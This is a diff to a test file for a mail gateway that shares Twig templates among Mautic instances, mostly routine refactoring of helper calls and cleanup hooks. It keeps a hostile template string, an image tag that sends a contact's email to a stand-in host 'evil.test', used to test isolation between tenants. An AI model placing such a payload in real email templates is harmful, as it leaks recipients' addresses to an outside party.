@@ -1,8 +1,8 @@
 import assert from 'node:assert/strict'
-import { after, before, test } from 'node:test'
+import { before, test } from 'node:test'
 import { addEmail, addTemplate, addTransport, uniqueName } from '../../../test/callers.ts'
 import { listenAsGateway, type OpenGateway } from '../../../test/gateway/open-gateway.ts'
-import { addMautic, closeMautics, submitMessage, type TestMautic } from '../../../test/mautics.ts'
+import { addMautic, submitMessage, type TestMautic } from '../../../test/mautics.ts'
 import { onEachDatabase } from '../../../test/on-each-database.ts'
 import type { TestBody } from '../../../test/test-app.ts'
 
@@ -10,7 +10,6 @@ const hostile = '<img src="https://evil.test/?{{ contact.email }}">'
 
 /** Administrators of two Mautics, at their addresses; one of them is hostile and knows the ids of all templates. */
 onEachDatabase('an administrator of one Mautic', { isOwn: true }, (shared) => {
-  after(closeMautics)
   let gateway: OpenGateway
   let victim: TestMautic
   let evil: TestMautic
@@ -38,7 +37,7 @@ onEachDatabase('an administrator of one Mautic', { isOwn: true }, (shared) => {
     return answer
   }
   const templateOf = async (id: number) =>
-    (await shared.service.ask('GET', `/api/twigTemplates/${id}`)).body.twigTemplate
+    (await shared.ask('GET', `/api/twigTemplates/${id}`)).body.twigTemplate
   /** What a message of a Mautic with this text is sent as; undefined if it is refused. */
   const sentAs = async (mautic: TestMautic, text: string) => {
     const subject = uniqueName('subject')
@@ -47,9 +46,9 @@ onEachDatabase('an administrator of one Mautic', { isOwn: true }, (shared) => {
       ...{ to: 'ann@rcpt.test', text: message },
     })
     if (reply !== '250 2.0.0') return undefined
-    const { body } = await shared.service.ask('GET', '/api/inbox?limit=100')
+    const { body } = await shared.ask('GET', '/api/inbox?limit=100')
     const [{ id }] = body.messages.filter((each: TestBody) => each.subject === subject)
-    return (await shared.service.ask('GET', `/api/inbox/${id}`)).body.message.text.trim()
+    return (await shared.ask('GET', `/api/inbox/${id}`)).body.message.text.trim()
   }
   const addOwn = async (mautic: TestMautic, values: object) => {
     const { status, text, body } = await askAs(mautic, 'POST', '/new', values)
@@ -188,7 +187,7 @@ onEachDatabase('an administrator of one Mautic', { isOwn: true }, (shared) => {
         template === include ? `[${hostile.replace('{{ contact.email }}', '')}]` : '[]'
       assert.deepEqual([status, body.output], [200, expected])
     }
-    const rendered = await shared.service.ask('POST', '/api/twigTemplates/render', {
+    const rendered = await shared.ask('POST', '/api/twigTemplates/render', {
       ...{ template: `[${include}]`, context: {} },
     })
     assert.equal(rendered.body.output, '[]')
@@ -209,7 +208,6 @@ onEachDatabase('an administrator of one Mautic', { isOwn: true }, (shared) => {
 })
 
 onEachDatabase('an administrator of Mailyard', { isOwn: true }, (shared) => {
-  after(closeMautics)
   test('gives templates to a Mautic and takes them back', async () => {
     const { service } = shared
     const { id: mautic } = await addMautic(service)
